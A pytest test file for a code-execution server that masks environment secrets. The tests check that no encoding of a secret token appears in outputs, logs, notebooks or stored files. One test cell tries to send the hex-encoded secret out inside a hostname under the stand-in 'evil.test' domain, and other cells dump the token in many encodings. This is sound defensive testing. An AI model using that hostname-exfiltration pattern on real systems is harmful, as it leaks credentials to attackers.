# SPDX-License-Identifier: MIT
"""What of the person's environment code gets, and that secrets among it are in nothing that is told or stored."""
import base64
import contextlib
import hashlib
import json
import re
import urllib.parse

import pytest
from client import BUILD, CALL_S, Result, Server
from patience import until
from proxies import Authority, answer_once, own_names
from steps import HOLD, go, listed, paths_in, session_folders
from test_spares import ENV, spared

SECRET = 'tk-"9\\a/B+\u00e9 z&5%41=:{hunter2~?}'
SHORT = "hunter2"
NAMES = "127.0.0.1 localhost ok.test\n"


def spellings(secret):
    """Every form that must be nowhere, as bytes."""
    raw = secret.encode()
    texts = {secret, json.dumps(secret)[1:-1], json.dumps(secret, ensure_ascii=False)[1:-1], repr(raw)[2:-1],
             ascii(secret)[1:-1], json.dumps(json.dumps(secret))[3:-3], urllib.parse.quote(secret),
             urllib.parse.quote(secret, safe=""), urllib.parse.quote_plus(secret), raw.hex(), raw.hex().upper()}
    for before in range(3):
        encoded = base64.b64encode(b"x" * before + raw).decode()
        core = encoded[(before * 8 + 5) // 6:(before + len(raw)) * 8 // 6]
        texts |= {core, core.replace("+", "-").replace("/", "_")}
    return [text.encode() for text in texts]


def found_in(blob, secret):
    joined = blob.replace(b"\\n", b"").replace(b"\n", b"").replace(b"\r", b"")
    return [form for form in spellings(secret) if form in blob or form in joined]


class Listening(Server):
    """A server all of whose words are kept."""

    def _read(self):
        self.words = []
        stream = self.process.stdout

        class Tee:
            def __iter__(tee):
                for line in stream:
                    self.words.append(line)
                    yield line
        self.process.stdout = Tee()
        super()._read()
        self.process.stdout = stream


def strings(value):
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)
    elif isinstance(value, str):
        yield value


def assert_silent(server, home, secret=SECRET, audit=None):
    """Ends the server; nothing of what it said or wrote holds the secret in any form. Code's own files are left out, and so
    is the list of their names that lies beside them."""
    stored = {}
    for folder in (home / "cache", home / "kept"):
        for path in paths_in(folder, "**"):
            if path.is_file() and not path.is_symlink() and "data" not in path.relative_to(home).parts[:6] \
                    and path.parts[-2:] != ("journal", "copies"):
                with contextlib.suppress(FileNotFoundError):  # a copy under way gets its name
                    stored[str(path)] = path.read_bytes()
    if audit:
        stored["audit"] = audit.read_bytes()
    server.close()
    stored["stderr"] = server.stderr
    stored["stdout"] = b"".join(server.words)
    stored["stdout, read"] = "\n".join(
        text for line in server.words for text in strings(json.loads(line))).encode()
    assert any(name.endswith("notebook.ipynb") for name in stored) and len(stored["stdout"]) > 1000
    for name, blob in stored.items():
        assert not found_in(blob, secret), (name, found_in(blob, secret))
    return stored


@pytest.fixture
def start(home):
    servers = []

    def start_server(*flags, secret=SECRET, env=None, **options):
        variables = {"PTYCELL_SECRET_TOKEN": secret, "PTYCELL_LOG": "debug", **(env or {})}
        servers.append(Listening(home, *flags, env=variables, **options))
        return servers[-1]

    yield start_server
    for server in servers:
        server.close()
        print(server.stderr.decode(errors="replace"))


# ---- what gets there ----

def test_only_what_is_passed_of_the_environment_reaches_code(home):
    env = {"PTYCELL_ENV_REGION": "north", "PTYCELL_ENV_PAGER": "less", "PTYCELL_SECRET_TOKEN": SECRET,
           "PTYCELL_ENV_TOKEN": "public", "PTYCELL_ENV_EMPTY": "", "AWS_KEY": "of the host", "PYTHONPATH": "/x",
           "PTYCELL_ENV_A_B": "two\nlines"}
    with Server(home, env=env) as server:
        answer = server.cell("import os, hashlib, json; print(json.dumps(dict(os.environ)))\n"
                             "hashlib.sha256(os.environ['TOKEN'].encode()).hexdigest()")
        assert "of the host" not in answer.text and "AWS_KEY" not in answer.text and "PTYCELL" not in answer.text
        told = json.loads(answer.text.splitlines()[0])
        assert (told["REGION"], told["PAGER"], told["A_B"]) == ("north", "less", "two\nlines")
        assert told["TOKEN"] == "[secret TOKEN]"
        assert "EMPTY" not in told
        assert told["PYTHONPATH"] == "/mnt/packages/python:/mnt/packages/ask/modules:/mnt/data/.cache/packages"
        assert hashlib.sha256(SECRET.encode()).hexdigest() in answer.text
        for language, code in (("bash", "echo \"$REGION/${#TOKEN}\""),
                               ("javascript", "console.log(process.env.REGION + '/' + process.env.TOKEN.length)")):
            assert server.cell(code, language=language).text.strip() == f"north/{len(SECRET)}"
        info = server.call("session_info", session_id="s").object["environment"]
        assert sorted(info["variables"]) == ["A_B", "PAGER", "REGION"] and info["secrets"] == ["TOKEN"]


def test_variables_may_come_from_a_file(home):
    (home / "env").write_text(f"PTYCELL_SECRET_TOKEN='{SHORT}-from-a-file'\nPTYCELL_ENV_X=1 # one\n")
    with Server(home, "--env-file", str(home / "env")) as server:
        assert server.cell("import os; print(os.environ['X'], os.environ['TOKEN'])").text == "1 [secret TOKEN]\n"


def test_an_interpreter_that_waited_for_its_session_has_and_hides_the_same(home):
    env = {"PTYCELL_ENV_REGION": "north", "PTYCELL_SECRET_TOKEN": SECRET, **ENV}
    with Server(home, env=env) as server:
        answer = server.cell("import os; print(os.environ['REGION'], os.environ['TOKEN'])\nos.environ['TOKEN']",
                             session=spared(server))
        assert answer.text == "north [secret TOKEN]\n'[secret TOKEN]'\n"


def test_names_and_values_that_cannot_be_are_told(home):
    env = {"PTYCELL_ENV_2X": "a", "PTYCELL_ENV_PTYCELL_HOME": "b", "PTYCELL_ENV_": "c", "PTYCELL_ENV_A-B": "d",
           "PTYCELL_SECRET_PIN": "1234"}
    with Server(home, env=env) as server:
        assert server.cell("import os; print(os.environ['PIN'])").text == "1234\n"
    said = server.stderr.decode()
    for name in ("PTYCELL_ENV_2X", "PTYCELL_ENV_PTYCELL_HOME", "PTYCELL_ENV_", "PTYCELL_ENV_A-B"):
        assert f"{name} has no effect" in said
    assert "PTYCELL_SECRET_PIN is shorter than 8 characters" in said and "1234" not in said


@pytest.mark.parametrize("env", [{"PTYCELL_SECRET_LONG": "x" * 20000}, {"PTYCELL_ENV_LONG": "x" * 100000}],
                         ids=["secret", "all"])
def test_too_much_is_a_problem_that_every_tool_tells(home, env):
    with Server(home, env=env) as server:
        answer = server.cell("1")
        assert answer.is_error and "PTYCELL_" in answer.texts[0] and "x" * 100 not in answer.texts[0]


# ---- what is told ----

FORMS = """
import base64, json, os, sys, urllib.parse
t = os.environ["TOKEN"]; raw = t.encode()
def forms():
    yield from (t, json.dumps(t), json.dumps(t, ensure_ascii=False), json.dumps(json.dumps({"k": t})), repr(t), ascii(t),
                repr(raw), urllib.parse.quote(t), urllib.parse.quote(t, safe=""), urllib.parse.quote_plus(t),
                raw.hex(), raw.hex().upper(), raw.hex(":"), base64.b16encode(raw).decode())
    for before in range(3):
        text = b"x" * before + raw + b"yz"
        yield base64.b64encode(text).decode()
        yield base64.urlsafe_b64encode(text).decode()
        yield base64.encodebytes(text * 4).decode()
        yield repr(base64.encodebytes(text * 4))
        yield urllib.parse.quote(base64.b64encode(text).decode())
"""


def test_a_cell_may_use_a_secret_and_show_it_in_any_form_before_it_crashes(home, tmp_path):
    """Issue 9, part 4: against an HTTPS server, through the proxy; then everything that was said is searched."""
    authority = Authority(tmp_path, "ok.test")
    names, audit = tmp_path / "names", tmp_path / "audit"
    names.write_text(NAMES)
    heard = []

    def talk(s, said):
        heard.append(said)
        answer_once(s, said)

    with authority.serve(talk) as there:
        server = Listening(home, "--hosts", f"ok.test:{there.port}", "--allow-private-hosts", "--audit", str(audit),
                           command=own_names(names, [str((BUILD / "ptycell").resolve())]),
                           env={"PTYCELL_SECRET_TOKEN": SECRET, "PTYCELL_LOG": "debug"})
        if server.call("session_info", session_id="s").object["confinement"]["network"]["mode"] == "none":
            pytest.skip("no tier with a network of its own here")
        server.call("upload_file", session_id="s", filename="ca.pem", content=authority.ca.read_text())
        answer = server.cell(FORMS + f"""
import ssl, urllib.request
request = urllib.request.Request("https://ok.test:{there.port}/?k=" + urllib.parse.quote(t),
                                 headers={{"X-Token": base64.b64encode(raw).decode()}})
print(urllib.request.urlopen(request, context=ssl.create_default_context(cafile="input/ca.pem"), timeout=200).read())
for form in forms():
    print(form)
    print(form, file=sys.stderr)
    for c in form:  # one write a character
        os.write(1, c.encode())
    os.write(1, b"\\n")
try:
    urllib.request.urlopen("http://" + raw.hex() + ".evil.test/")
except Exception as error:
    print(error)
print("end of the forms")
sys.stdout.flush()
os.abort()
""")
        assert answer.state == "died" and answer.is_error
        assert "b'hello'" in answer.text and "end of the forms" in answer.text
        assert answer.text.count("[secret TOKEN]") > 60
        assert urllib.parse.quote(SECRET).encode() in heard[0], "the secret was not used"
        assert base64.b64encode(SECRET.encode()) in heard[0]
        server.cell("1")
        until(lambda: list((home / "kept").rglob("notebook.ipynb")))
        stored = assert_silent(server, home, audit=audit)
        assert b"end of the forms" in stored["audit"] and b"end of the forms" in stored["stdout"]


def test_no_answer_about_a_session_tells_a_secret(start, home, tmp_path):
    """Results, errors, variables, names of files, prompts, progress, journal, notebook, script and resources."""
    audit = tmp_path / "audit"
    server = start("--audit", str(audit))
    code = json.dumps(SECRET)
    server.cell(f"written = {code}  # a model that was told the value\nwritten")
    server.cell(FORMS)
    for last in ("t", "raw", "list(forms())", "{t: 1}", "t * 3", "base64.b64encode(raw * 1000)"):
        answer = server.cell(last)
        assert "[secret TOKEN]" in answer.text, last
    for bad in ("raise ValueError(t)", "raise type('E' + raw.hex(), (Exception,), {})(raw)", "{}[t]", "import " + "z" * 9 + "_%s" % "q",
                "open('/nonexistent/' + t.replace('/', '_') + raw.hex())", "def f(x): 1/0\nf(t)", "exec('x = ' + repr(t) + ' +')",
                "sys.exit(t)", f"x = {code} +", f"int({code})"):
        server.cell(bad)
    server.cell("import pathlib\npathlib.Path('output', raw.hex()).write_text('x')\n"
                "pathlib.Path('output', urllib.parse.quote(t, safe='') + '.txt').write_text('x')")
    server.cell("globals()['v' + raw.hex()] = t; d = {t: [t]}")
    server.call("session_info", session_id="s", include=["variables"])
    server.call("list_artifacts", session_id="s")
    server.cell("import sys\nsys.stdout.write('\\x1b[1m'.join(t) + '\\n')\nsys.stdout.write('\\u200b'.join(t) + '\\n')\n"
                "sys.stdout.write(t[:9] + 'X\\b' + t[9:] + '\\n')\n'\\u200b'.join(t)")
    server.cell("for i in range(3000): print(i, t, raw.hex(), base64.b64encode(raw))")
    server.cell("import warnings; warnings.warn(t); print(t, file=sys.stderr)")
    server.cell("import matplotlib.pyplot as plt; plt.plot([1]); plt.title(t); plt.show(); display(t)")
    server.call("exec_code", session_id=SECRET, language=SECRET, code="1")
    server.call("exec_code", session_id="s", language=SECRET, code="1")
    waiting = Result(server.start_cell("answer = input(t + ': ')", budget=CALL_S).get()["result"])
    assert waiting.state == "waiting_for_input"
    assert "at the prompt '[secret TOKEN]:'" in "".join(waiting.texts)
    server.call("interact", session_id="s", language="python", input=SECRET)
    server.cell("answer")
    for language, lines in (
            ("bash", ["echo \"$TOKEN\"", "declare -p TOKEN", "printf %s \"$TOKEN\" | base64; printf %s \"$TOKEN\" | xxd -p",
                      "v=$TOKEN; set -x; : \"$TOKEN\"", "\"$TOKEN\"", "echo ${TOKEN@Q}"]),
            ("javascript", ["process.env.TOKEN", "throw new Error(process.env.TOKEN)", "Buffer.from(process.env.TOKEN)",
                            "encodeURIComponent(process.env.TOKEN)", "new Map([[process.env.TOKEN, 1]])", "var k = process.env.TOKEN"])):
        for line in lines:
            server.cell(line, language=language)
    server.call("session_info", session_id="s", include=["variables"])
    for path in ("", "/cells", "/notebook", "/script", "/cells/3", *(f"/cells/{n}" for n in range(1, 30))):
        server.start("resources/read", {"uri": f"session://s{path}"}).get()
    server.start("resources/read", {"uri": f"session://s/files/output/{SECRET}"}).get()
    server.start("tools/call", {"name": SECRET, "arguments": {}}).get()
    server.start(SECRET, {}).get()
    server.request("resources/list")
    until(lambda: list((home / "kept").rglob("notebook.ipynb")))
    stored = assert_silent(server, home, audit=audit)
    spools = [blob for name, blob in stored.items() if "/spool/" in name]
    assert spools and any(blob.count(b"[secret TOKEN]") > 5000 for blob in spools)


def test_output_that_a_call_s_end_cuts_in_two_holds_no_whole_secret(start, home):
    server = start()
    server.cell("import os, sys, time; t = os.environ['TOKEN']")
    code = f"print(end=t[:20], flush=True); open('half', 'w').close()\n{HOLD}print(end=t[20:] + '!', flush=True)"
    answers = [server.cell(code, budget=0.5)]
    until(lambda: "half" in listed(server, "half"))
    answers.append(server.interact(budget=0.5))
    assert all(answer.state == "running" and SECRET[:9] not in answer.text for answer in answers)
    go(server)
    rest = server.call("interact", session_id="s", language="python", action="wait", budget=CALL_S)
    assert rest.state == "done" and rest.text.strip() == "[secret TOKEN]!"
    server.cell("print('x' * 40000)")
    assert_silent(server, home)


# ---- what we cut ourselves ----

LONG = "".join(hashlib.sha256(b"%d" % i).hexdigest()[:40] + "_" for i in range(8))
PEM = "-----BEGIN A KEY-----\n" + "\n".join(hashlib.sha512(b"%d" % i).hexdigest()[:64] for i in range(6)) + "\n-----END A KEY-----\n"
PHRASE = " ".join(hashlib.sha256(b"w%d" % i).hexdigest()[:7] for i in range(20))
CUTS = {"PTYCELL_SECRET_LONG": LONG, "PTYCELL_SECRET_PEM": PEM, "PTYCELL_SECRET_PHRASE": PHRASE}


def shown_of(words):
    """Parts of 16 letters of a secret that are in what was said."""
    secrets = (LONG, PEM[22:-20].replace("\n", ""), PHRASE)
    return {secret[i:i + 16] for secret in secrets for i in range(len(secret) - 16) if secret[i:i + 16] in words}


def assert_nothing_shown(server, home):
    until(lambda: list((home / "kept").rglob("notebook.ipynb")))
    server.call("destroy_session", session_id="s")
    kept = "\n".join(path.read_text() for path in (home / "kept").rglob("notebook.ipynb"))
    server.close()
    said = "\n".join(text for line in server.words for text in strings(json.loads(line)))
    for text in (said, kept):
        assert not shown_of(text) and not shown_of(text.replace("\n", "")) and not shown_of(re.sub(r"'( \+)?\s*'", "", text))


@pytest.mark.parametrize("language, code", [
    ("python", "import os; a = os.environ['LONG']; b = os.environ['PEM']; c = [b]; d = {a: b}"),
    ("bash", "a=$LONG; b=$PEM; c=\"xxx $PEM\""),
    ("javascript", "var a = process.env.LONG, b = process.env.PEM, c = [b], d = {k: b, a}"),
    ("r", "a <- Sys.getenv('LONG'); b <- Sys.getenv('PEM')")])
def test_a_variable_shows_no_start_of_a_long_secret(start, home, language, code):
    server = start(env=CUTS)
    server.cell(code, language=language)
    told = {v["name"]: v.get("value", "") for v in
            server.call("session_info", session_id="s", include=["variables"]).object["variables"]}
    assert "[secret LONG]" in told["a"] and "[secret PEM]" in told["b"]
    assert_nothing_shown(server, home)


def test_a_variable_that_is_called_as_a_secret_keeps_its_type_and_shape(start, home):
    server = start(env=CUTS)
    result = server.cell("assign(Sys.getenv('LONG'), c(1, 2))", language="r")
    variable, = result.cell["names"]
    assert variable["name"] == "[secret LONG]" and variable["type"] == "numeric", variable
    assert_nothing_shown(server, home)


def test_rows_show_no_part_of_a_long_secret(start, home):
    server = start(env=CUTS)
    server.cell("import os\nopen('output/t.csv', 'w').write('a,b\\n' + ('x' * 150 + os.environ['LONG'] + ',1\\n') * 3)")
    for query in (f"select '{PEM}' as a", f"select '{PHRASE}'", f"select '{LONG}'", f"select '{'x' * 150}{LONG}' as a",
                  'select * from "output/t.csv"'):
        assert "[secret " in "".join(server.call("exec_sql", session_id="s", query=query).texts), query
    server.cell("open('output/u.csv', 'w').write('a\\n' + ('x' * 4000 + os.environ['LONG'] + '\\n') * 100)")
    server.call("exec_sql", session_id="s", query='select * from "output/u.csv"')
    assert_nothing_shown(server, home)


def test_what_a_sentence_of_ours_quotes_shows_no_start_of_a_long_secret(start, home):
    server = start(env=CUTS)
    server.cell("import os; a = os.environ['LONG']\na")
    server.call("destroy_session", session_id=LONG)
    server.call("session_info", session_id="s", include=[LONG])
    server.call("exec_code", session_id="s", language=LONG, code="1")
    server.start(LONG, {}).get()
    assert_nothing_shown(server, home)


def test_values_and_errors_that_are_cut_show_no_part_of_a_long_secret(start, home):
    server = start(env=CUTS)
    server.cell("import os; a = os.environ['LONG']")
    for n in (900, 1200, 1300, 1400, 3800, 3950, 5800, 5990):
        server.cell(f"'x' * {n} + a + 'y' * 9000")
        server.cell(f"['x' * {n} + a + 'y' * (5995 - {n} - len(a))]")
        server.cell(f"raise ValueError('x' * {n} + a + 'y' * 9000)")
    for n in (900, 1400, 1700, 1900):  # where the tail of what is shown begins
        for kind in ("", ".encode()"):
            server.cell(f"('x' * 9000 + a + 'y' * ({n} - 300)){kind}")
            server.cell(f"raise ValueError('x' * 9000 + a + 'y' * ({n} % 600))")
            server.cell(f"['x' * 5995 + 'x' * 9000 + a + 'y' * {n - 300}]")
    for n in (4800, 4900, 13200, 13300):
        server.cell(f"'x'.repeat({n}) + process.env.LONG + 'y'.repeat(30000)", language="javascript")
        server.cell(f"throw new Error('x'.repeat({n} % 1500) + process.env.LONG + 'y'.repeat(30000))", language="javascript")
    assert_nothing_shown(server, home)


def test_secrets_of_several_lines_and_words_are_found_in_values(start, home):
    server = start(env=CUTS)
    server.cell("import os; p = os.environ['PEM']; b = os.environ['PHRASE']")
    for value in ("p", "b", "[p, b] * 3", "{'k': p, 'j': [b]}", "(b,) * 9", "{p: {b: p.encode()}}", "[b.encode()] * 3"):
        assert "[secret P" in server.cell(value).text, value
    server.cell("const p = process.env.PEM, b = process.env.PHRASE", language="javascript")
    for value in ("p", "[p, b]", "({p, b: {p, l: [b, b, p]}})", "new Map([[p, b]])", "console.log([p, {p}])", "new Set([p])"):
        assert "[secret P" in server.cell(value, language="javascript").text, value
    assert_nothing_shown(server, home)


def test_the_notebook_of_a_session_that_is_named_as_a_secret_does_not_say_it(start, home):
    server = start(secret="hunter2hunter2")
    server.cell("1", session="hunter2hunter2")
    notebook = until(lambda: list((home / "kept").rglob("notebook.ipynb")))[0]
    server.call("destroy_session", session_id="hunter2hunter2")
    assert json.loads(notebook.read_text())["metadata"]["ptycell"]["session_id"] == "[secret TOKEN]"


def test_parts_of_a_file_join_up_without_a_secret(start):
    server = start(env=CUTS)
    server.cell("import os, pathlib\npathlib.Path('output/t.txt').write_text('x' * 1995 + os.environ['LONG'] + 'y' * 2000)")

    def part(offset, length):
        content = server.request("resources/read", {"uri": f"session://s/files/output/t.txt?offset={offset}&length={length}"})
        return content["contents"][0]["text"]

    size = 3995 + len(LONG)
    for step in (100, 999, 2003, 5000):
        joined = "".join(part(at, step) for at in range(0, size, step))
        assert joined == "x" * 1995 + "[secret LONG]" + "y" * 2000
    assert part(1990, 10) == "xxxxx[secret LONG]" and part(2000, 20) == ""


def test_no_person_is_asked_what_a_secret_is_in(home):
    """Elicitation: the prompt is the code's own text. The model is told it, without the secret."""
    server = Listening(home, env={"PTYCELL_SECRET_TOKEN": SECRET}, initialize=False)
    server.request("initialize", {"protocolVersion": "2025-11-25", "capabilities": {"elicitation": {}},
                                  "clientInfo": {"name": "e2e", "version": "1"}})
    server.notify("notifications/initialized")
    answer = server.start_cell("import os; got = input('Is ' + os.environ['TOKEN'] + ' right? ')")
    result = Result(answer.get()["result"])
    assert result.state == "waiting_for_input" and "Is [secret TOKEN] right?" in result.text
    while not server.others.empty():
        assert server.others.get()["method"] != "elicitation/create"
    server.call("interact", session_id="s", language="python", input="yes")
    until(lambda: list((home / "kept").rglob("notebook.ipynb")))
    assert_silent(server, home)


def test_in_json_results_too(home):
    server = Listening(home, "--results", "json", env={"PTYCELL_SECRET_TOKEN": SECRET})
    server.cell(FORMS + "print(list(forms()))")
    server.cell("t")
    server.cell("1/0 if t else t")
    server.call("session_info", session_id="s", include=["variables"])
    until(lambda: list((home / "kept").rglob("notebook.ipynb")))
    assert_silent(server, home)


# ---- what stays ----

def test_bytes_of_files_and_figures_stay_as_they_are(start, home):
    server = start()
    server.cell("import os, pathlib; t = os.environ['TOKEN']\npathlib.Path('output/t.bin').write_bytes(b'\\0' + t.encode())")
    kept = until(lambda: list((home / "kept").rglob("t.bin")))
    assert kept[0].read_bytes() == b"\0" + SECRET.encode()
    (folder,) = session_folders(home)
    assert (folder / "output/t.bin").read_bytes() == b"\0" + SECRET.encode()
    blob = server.request("resources/read", {"uri": "session://s/files/output/t.bin"})["contents"][0]["blob"]
    assert base64.b64decode(blob) == b"\0" + SECRET.encode()


def test_a_prompt_that_ends_as_a_secret_begins_is_shown(start):
    server = start(secret="Name: Rumpelstiltskin")
    waiting = Result(server.start_cell("x = input('Name')", budget=CALL_S).get()["result"])
    assert waiting.state == "waiting_for_input" and "at the prompt 'Name'." in waiting.text
    server.call("interact", session_id="s", language="python", input="me")


def test_a_terminal_query_right_behind_the_start_of_a_secret_is_answered(start):
    server = start(secret="Rumpelstiltskin")
    answer = server.cell(r"""
import os, sys, tty, termios
old = termios.tcgetattr(0); tty.setcbreak(0)
os.write(1, b"Rum\033[6n")
got = b""
while not got.endswith(b"R"):
    got += os.read(0, 1)
termios.tcsetattr(0, termios.TCSANOW, old)
got""")
    assert answer.state == "done" and "R'" in answer.text
